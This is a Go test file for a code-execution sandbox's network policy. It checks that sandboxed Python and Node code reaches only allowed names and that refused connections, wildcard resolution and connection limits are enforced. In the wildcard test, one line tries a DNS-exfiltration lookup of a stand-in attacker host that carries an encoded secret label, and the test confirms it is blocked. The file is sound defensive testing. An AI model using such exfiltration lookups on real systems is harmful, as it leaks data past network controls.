//go:build linux

package native_test

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/codecell-dev/codecell"
	"github.com/codecell-dev/codecell/internal/testenv"
	"github.com/codecell-dev/codecell/tier/native"
)

// netFixture is a test server on the host's loopback, a name the tier's
// proxy resolves to it, and an engine on a native tier with that resolver.
type netFixture struct {
	e    *codecell.Engine
	port int
	hits atomic.Int64
	// asked are the names the proxy resolved, in order.
	mu    sync.Mutex
	asked []string
}

func newNetFixture(t *testing.T) *netFixture {
	testenv.RequireNative(t, native.Default.Probe)
	f := &netFixture{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f.hits.Add(1)
		fmt.Fprintf(w, "hello %s %s", r.Host, r.URL.Path)
	}))
	t.Cleanup(srv.Close)
	f.port = srv.Listener.Addr().(*net.TCPAddr).Port
	tier := &native.Tier{Pool: -1, Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
		f.mu.Lock()
		f.asked = append(f.asked, host)
		f.mu.Unlock()
		if host == "api.test" || host == "other.test" || host == "files.pkg.test" {
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		}
		return nil, fmt.Errorf("no such host %s", host)
	}}
	t.Cleanup(func() { tier.Close() })
	f.e = &codecell.Engine{Tier: native.Name, Tiers: []codecell.Tier{tier}}
	return f
}

func (f *netFixture) run(t *testing.T, lang, code string, allow ...string) *codecell.Result {
	t.Helper()
	res, err := f.e.Run(context.Background(), &codecell.Exec{Language: lang, Code: code,
		Env:    map[string]string{"PORT": fmt.Sprint(f.port)},
		Policy: codecell.Policy{Network: &codecell.NetworkPolicy{Allow: allow}}})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// An allowed name reaches its server from Python and from Node's fetch,
// through the proxy; the Result lists the connection.
func TestNetworkAllowedName(t *testing.T) {
	f := newNetFixture(t)
	allow := []string{fmt.Sprintf("api.test:%d", f.port), "127.0.0.0/8"}
	res := f.run(t, "python", "import os, urllib.request\nurllib.request.urlopen(f\"http://api.test:{os.environ['PORT']}/py\").read().decode()", allow...)
	if res.Status != codecell.StatusSuccess || string(res.Value) != fmt.Sprintf(`"hello api.test:%d /py"`, f.port) {
		t.Fatalf("python: %s %s %+v %q", res.Status, res.Value, res.Error, res.Stderr)
	}
	if len(res.Network) != 1 || !res.Network[0].Allowed || res.Network[0].Host != "api.test" || res.Network[0].BytesIn == 0 {
		t.Fatalf("network %+v", res.Network)
	}
	if !strings.Contains(res.Isolation.Network, "api.test") {
		t.Errorf("isolation.network %q", res.Isolation.Network)
	}
	res = f.run(t, "javascript", "const r = await fetch(`http://api.test:${process.env.PORT}/js`)\nawait r.text()", allow...)
	if res.Status != codecell.StatusSuccess || string(res.Value) != fmt.Sprintf(`"hello api.test:%d /js"`, f.port) {
		t.Fatalf("node: %s %s %+v %q", res.Status, res.Value, res.Error, res.Stderr)
	}
}

// What the policy does not allow reaches nothing: a name not listed (it
// does not resolve), an address literal (the sandbox's own loopback, or no
// route), another port, a Host that is not the name, a name whose address
// is private without the range listed, IPv6, and UDP. The test server
// counts what reached it: nothing.
func TestNetworkRefusals(t *testing.T) {
	f := newNetFixture(t)
	allow := []string{fmt.Sprintf("api.test:%d", f.port), "127.0.0.0/8"}
	code := `import os, socket, urllib.request
port = int(os.environ["PORT"])
out = {}
def attempt(name, fn):
    try:
        out[name] = "reached: " + repr(fn())
    except Exception as e:
        out[name] = "refused: " + type(e).__name__
def get(url, host=None):
    req = urllib.request.Request(url)
    if host:
        req.add_header("Host", host)
    return urllib.request.urlopen(req, timeout=10).read()
attempt("other name", lambda: get(f"http://other.test:{port}/"))
attempt("literal", lambda: get(f"http://127.0.0.1:{port}/"))
attempt("host ip", lambda: socket.create_connection(("10.0.0.1", port), timeout=5))
attempt("other port", lambda: socket.create_connection(("api.test", port + 1), timeout=5))
attempt("wrong host", lambda: get(f"http://api.test:{port}/", host="other.test"))
attempt("ipv6", lambda: socket.create_connection(("::1", port), timeout=5))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"q", ("198.18.0.2", 53))
    return s.recv(10)
attempt("udp", udp)
out`
	res := f.run(t, "python", code, allow...)
	if res.Status != codecell.StatusSuccess {
		t.Fatalf("%s %+v %q", res.Status, res.Error, res.Stderr)
	}
	if strings.Contains(string(res.Value), "reached") {
		t.Errorf("something was reached: %s", res.Value)
	}
	reasons := map[string]bool{}
	for _, c := range res.Network {
		if c.Allowed {
			t.Errorf("allowed: %+v", c)
		}
		reasons[c.Host+" "+strings.SplitN(c.Reason, ",", 2)[0]] = true
	}
	for _, want := range []string{"api.test the connection was opened for api.test", "127.0.0.1 no entry of the exec policy allows 127.0.0.1:" + fmt.Sprint(f.port)} {
		if !reasons[want] {
			t.Errorf("not listed as refused: %q in %v", want, reasons)
		}
	}
	// Without the range, the name's loopback address is not reached.
	res = f.run(t, "python", "import os, urllib.request\nurllib.request.urlopen(f\"http://api.test:{os.environ['PORT']}/\", timeout=10).read()", fmt.Sprintf("api.test:%d", f.port))
	if res.Status == codecell.StatusSuccess || len(res.Network) != 1 || !strings.Contains(res.Network[0].Reason, "does not let a connection reach") {
		t.Errorf("rebinding: %s %+v", res.Status, res.Network)
	}
	if n := f.hits.Load(); n != 0 {
		t.Fatalf("the test server was reached %d times", n)
	}
}

// A wildcard is answered by the sandbox's own resolver: a name under it
// resolves and is reached; any other name is NXDOMAIN inside the sandbox,
// and no query for it reaches the host's resolver (nothing a program hides
// in a name leaves).
func TestNetworkWildcard(t *testing.T) {
	f := newNetFixture(t)
	code := `import os, socket, urllib.request
port = int(os.environ["PORT"])
out = {"got": urllib.request.urlopen(f"http://files.pkg.test:{port}/w", timeout=10).read().decode()}
for name in ["c2VjcmV0.exfil.attacker.example", "pkg.test", "api.test"]:
    try:
        out[name] = socket.gethostbyname(name)
    except OSError as e:
        out[name] = "unresolved"
out`
	res := f.run(t, "python", code, fmt.Sprintf("*.pkg.test:%d", f.port), "127.0.0.0/8")
	if res.Status != codecell.StatusSuccess {
		t.Fatalf("%s %+v %q", res.Status, res.Error, res.Stderr)
	}
	want := fmt.Sprintf(`{"got":"hello files.pkg.test:%d /w","c2VjcmV0.exfil.attacker.example":"unresolved","pkg.test":"unresolved","api.test":"unresolved"}`, f.port)
	if string(res.Value) != want {
		t.Fatalf("value %s, want %s", res.Value, want)
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	if len(f.asked) != 1 || f.asked[0] != "files.pkg.test" {
		t.Fatalf("the host resolved %q", f.asked)
	}
	if !strings.Contains(res.Isolation.Network, "*.pkg.test") {
		t.Errorf("isolation.network %q", res.Isolation.Network)
	}
}

// A program that opens connections without end gets at most 256 open at
// once through the proxy: the rest are refused, and said to be, so that
// the codecell process's descriptors and memory stay bounded whatever the
// program does. The program holds every connection it was given while it
// opens the next, and waits for each one's answer (or its end), so the
// count is exact.
func TestNetworkOpenConnectionsBounded(t *testing.T) {
	f := newNetFixture(t)
	res := holdConnections(t, f, 300)
	if res.Status != codecell.StatusSuccess || string(res.Value) != "[256,44]" {
		t.Fatalf("%s %s %+v %q", res.Status, res.Value, res.Error, res.Stderr)
	}
	if n := refusedFor(res, "256 connections open at once"); n != 44 {
		t.Errorf("%d connections listed as refused for being past the bound, want 44", n)
	}
}

// The connections of all the process's sandboxes are bounded too: past the
// bound (a quarter of the process's descriptors; lowered here), one more
// is refused, and listed with why.
func TestNetworkOpenConnectionsBoundedForTheProcess(t *testing.T) {
	f := newNetFixture(t)
	defer native.SetMaxOpenConnsAll(100)()
	res := holdConnections(t, f, 150)
	if res.Status != codecell.StatusSuccess || string(res.Value) != "[100,50]" {
		t.Fatalf("%s %s %+v %q", res.Status, res.Value, res.Error, res.Stderr)
	}
	if n := refusedFor(res, "for all its sandboxes"); n != 50 {
		t.Errorf("%d connections listed as refused for being past the process's bound, want 50", n)
	}
}

// holdConnections runs a program that opens n connections to the
// fixture's server, one after another, holding each and waiting for its
// answer (or its end); its value is [served, refused].
func holdConnections(t *testing.T, f *netFixture, n int) *codecell.Result {
	t.Helper()
	code := fmt.Sprintf(`import os, socket
port = int(os.environ["PORT"])
served = refused = 0
held = []
for i in range(%d):
    s = socket.create_connection(("api.test", port), timeout=20)
    s.sendall(b"GET / HTTP/1.1\r\nHost: api.test:%%d\r\n\r\n" %% port)
    try:
        ok = s.recv(100).startswith(b"HTTP/1.1 200")
    except ConnectionResetError:
        ok = False
    served, refused = served + ok, refused + (not ok)
    held.append(s)
[served, refused]`, n)
	return f.run(t, "python", code, fmt.Sprintf("api.test:%d", f.port), "127.0.0.0/8")
}

// refusedFor counts the connections a Result lists as refused for why.
func refusedFor(res *codecell.Result, why string) int {
	n := 0
	for _, c := range res.Network {
		if !c.Allowed && strings.Contains(c.Reason, why) {
			n++
		}
	}
	return n
}
